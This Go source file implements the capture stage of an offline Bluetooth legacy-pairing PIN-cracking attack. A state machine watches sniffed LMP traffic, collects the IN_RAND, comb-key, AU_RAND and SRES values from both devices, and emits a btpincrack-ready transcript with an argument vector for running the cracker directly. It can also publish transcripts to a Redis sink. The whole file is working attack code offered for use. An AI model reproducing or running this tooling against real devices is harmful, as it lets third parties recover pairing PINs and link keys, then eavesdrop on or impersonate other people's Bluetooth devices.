// Package pairing implements the gated, ordered state machine that
// accumulates the seven artifacts of a legacy-pairing transcript needed
// to mount an offline Bluetooth PIN-recovery attack, and emits a
// btpincrack-compatible transcript once all seven have been witnessed
// under their role constraints.
package pairing

import (
	"encoding/hex"

	"github.com/sirupsen/logrus"
)

// LMP opcodes this observer reacts to (Bluetooth Core Spec Part C).
const (
	OpInRand  = 9
	OpCombKey = 11
	OpAURand  = 12
	OpSRes    = 13
)

// Mask bits. Bit 0 is the "armed" bit that survives a reset; the other
// seven track each artifact. mask == maskComplete (0xFF) means all
// seven have been witnessed.
const (
	maskArmed    = 1 << 0
	maskInRand   = 1 << 1
	maskComb1    = 1 << 2
	maskComb2    = 1 << 3
	maskAURand1  = 1 << 4
	maskAURand2  = 1 << 5
	maskSRes1    = 1 << 6
	maskSRes2    = 1 << 7
	maskComplete = 0xFF
)

// Slot indices into Transcript.Slots.
const (
	SlotInRand = iota
	SlotCombInitiator
	SlotCombResponder
	SlotAURandInitiator
	SlotAURandResponder
	SlotSResResponder
	SlotSResInitiator
	numSlots
)

// Transcript holds the seven captured artifacts once complete.
type Transcript struct {
	Slots     [numSlots][]byte
	PinMaster bool // true if the master originated IN_RAND
}

// BtpincrackArgs returns the argument vector
// "btpincrack Go <A> <B> h0 h1 h2 h3 h4 h5 h6" split into fields, so a
// caller can exec the downstream cracker directly instead of
// re-parsing a log line.
func (t Transcript) BtpincrackArgs(masterAddr, slaveAddr string) []string {
	a, b := masterAddr, slaveAddr
	if !t.PinMaster {
		a, b = slaveAddr, masterAddr
	}
	args := []string{"btpincrack", "Go", a, b}
	for _, s := range t.Slots {
		args = append(args, hex.EncodeToString(s))
	}
	return args
}

// String renders the btpincrack-format transcript line.
func (t Transcript) String(masterAddr, slaveAddr string) string {
	args := t.BtpincrackArgs(masterAddr, slaveAddr)
	line := ""
	for i, a := range args {
		if i > 0 {
			line += " "
		}
		line += a
	}
	return line
}

// Publisher receives a completed transcript; implemented by
// internal/telemetry for the optional Redis pub/sub sink.
type Publisher interface {
	PublishTranscript(t Transcript) error
}

// Metrics receives a completion event for a finished transcript;
// implemented by internal/telemetry.CaptureMetrics.
type Metrics interface {
	RecordTranscript(pinMaster bool)
}

// Observer is not safe for concurrent use; the session controller's
// single decode loop is its only caller.
type Observer struct {
	MasterAddr string
	SlaveAddr  string
	Publisher  Publisher
	Metrics    Metrics

	log  *logrus.Entry
	mask uint8
	pm   bool // true if master is pm (originated the current IN_RAND)
	t    *Transcript
}

// NewObserver returns an Observer armed for its first IN_RAND.
func NewObserver(masterAddr, slaveAddr string, log *logrus.Entry) *Observer {
	if log == nil {
		log = logrus.NewEntry(logrus.StandardLogger())
	}
	return &Observer{
		MasterAddr: masterAddr,
		SlaveAddr:  slaveAddr,
		log:        log.WithField("component", "pairing"),
		mask:       maskArmed,
	}
}

// Observe feeds one LMP opcode observation into the state machine.
// masterSender reports whether the master transmitted this PDU.
// Unmatched inputs (wrong precondition, unrecognized opcode) are
// silently ignored.
func (o *Observer) Observe(masterSender bool, op1 uint8, body []byte) {
	switch op1 {
	case OpInRand:
		o.reset()
		o.pm = masterSender
		o.store(SlotInRand, body, 16)
		o.mask |= maskInRand

	case OpCombKey:
		if o.mask&maskInRand == 0 {
			return
		}
		if masterSender == o.pm {
			o.store(SlotCombInitiator, body, 16)
			o.mask |= maskComb1
		} else {
			o.store(SlotCombResponder, body, 16)
			o.mask |= maskComb2
		}

	case OpAURand:
		if o.mask&(maskComb1|maskComb2) != (maskComb1 | maskComb2) {
			return
		}
		if masterSender == o.pm {
			o.store(SlotAURandInitiator, body, 16)
			o.mask |= maskAURand1
		} else {
			o.store(SlotAURandResponder, body, 16)
			o.mask |= maskAURand2
		}

	case OpSRes:
		if masterSender != o.pm {
			if o.mask&maskAURand1 == 0 {
				return
			}
			o.store(SlotSResInitiator, body, 4)
			o.mask |= maskSRes1
		} else {
			if o.mask&maskAURand2 == 0 {
				return
			}
			o.store(SlotSResResponder, body, 4)
			o.mask |= maskSRes2
		}

	default:
		return
	}

	if o.mask == maskComplete {
		o.emit()
		o.mask = maskArmed
	}
}

func (o *Observer) reset() {
	o.mask = maskArmed
}

// store copies up to n bytes of body into the observer's own slot
// buffer; the observer never retains the caller's slice.
func (o *Observer) store(slot int, body []byte, n int) {
	if len(body) < n {
		n = len(body)
	}
	buf := make([]byte, n)
	copy(buf, body[:n])
	o.transcript().Slots[slot] = buf
}

// transcript is reconstructed lazily from the observer's own slot
// storage; kept as a tiny struct wrapper to centralize the Slots array.
func (o *Observer) transcript() *Transcript {
	if o.t == nil {
		o.t = &Transcript{}
	}
	return o.t
}

func (o *Observer) emit() {
	t := *o.transcript()
	t.PinMaster = o.pm
	line := t.String(o.addrOrDefault(o.MasterAddr, "master"), o.addrOrDefault(o.SlaveAddr, "slave"))
	o.log.Info(line)

	if o.Publisher != nil {
		if err := o.Publisher.PublishTranscript(t); err != nil {
			o.log.WithError(err).Warn("publish pairing transcript")
		}
	}
	if o.Metrics != nil {
		o.Metrics.RecordTranscript(t.PinMaster)
	}
	o.t = nil
}

func (o *Observer) addrOrDefault(addr, def string) string {
	if addr == "" {
		return def
	}
	return addr
}
